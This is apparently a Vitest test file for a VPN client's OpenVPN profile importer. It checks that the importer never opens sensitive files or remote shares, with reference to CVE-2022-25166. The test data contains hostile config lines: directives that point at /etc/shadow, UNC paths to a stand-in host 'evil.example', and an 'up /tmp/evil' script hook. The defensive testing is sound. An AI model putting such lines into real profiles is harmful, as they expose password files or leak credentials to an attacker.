import { describe, expect, it } from 'vitest';
import { importProfile } from '../../../electron/profiles/import.ts';
import type { LimitedReader } from '../../../electron/profiles/read-file.ts';
import { ok } from '../../../electron/shared/result.ts';
import { certificate, profileWith } from '../openvpn/samples.ts';

/** Imports a text as /home/me/office.ovpn; every other path that is opened is kept, and holds a certificate. */
async function importing(
  text: string,
): Promise<{ readonly opened: string[]; readonly result: Awaited<ReturnType<typeof importProfile>> }> {
  const opened: string[] = [];
  const read: LimitedReader = (path) => {
    if (path === '/home/me/office.ovpn') return Promise.resolve(ok(Buffer.from(text)));
    opened.push(path);
    return Promise.resolve(ok(Buffer.from(certificate)));
  };
  const request = { file: '/home/me/office.ovpn', dnsServers: [], domains: [], searchDomains: [], routes: [] };
  return { result: await importProfile(request, read, {}), opened };
}

describe('what an import opens', () => {
  it.each([
    'auth-user-pass \\\\\\\\evil.example\\\\share\\\\x',
    'auth-user-pass //evil.example/share/x',
    'auth-user-pass /etc/shadow',
    'askpass /etc/shadow',
    'http-proxy proxy.example 3128 /etc/shadow',
    'socks-proxy proxy.example 1080 /etc/shadow',
  ])('CVE-2022-25166 (AWS Client VPN): a file with a password is never opened: %s', async (line) => {
    const { opened, result } = await importing(profileWith(line));
    expect(opened).toEqual([]);
    expect(result).toMatchObject({ ok: true, value: { report: [{ line: 5, verdict: 'removed' }] } });
    expect(JSON.stringify(result)).not.toContain('evil.example');
  });

  it.each([
    'crl-verify \\\\\\\\evil.example\\\\share\\\\crl',
    'extra-certs "//evil.example/share/x"',
    'ca "\\\\\\\\?\\\\UNC\\\\evil\\\\x"',
  ])(
    'CVE-2022-25166 (AWS Client VPN): no file of another computer is opened, which would be signed in to: %s',
    async (line) => {
      const { opened, result } = await importing(profileWith(line));
      expect(opened).toEqual([]);
      expect(result).toMatchObject({ ok: false, error: { params: { line: 5 } } });
    },
  );

  it('CVE-2022-25166 (AWS Client VPN): a profile that is refused has none of its files opened', async () => {
    const { opened, result } = await importing(profileWith('extra-certs ca.crt', 'up /tmp/evil'));
    expect(result).toMatchObject({ ok: false, error: { code: 'profile.dangerous' } });
    expect(opened).toEqual([]);
    expect((await importing(profileWith('extra-certs ca.crt'))).opened).toEqual(['/home/me/ca.crt']);
  });
});
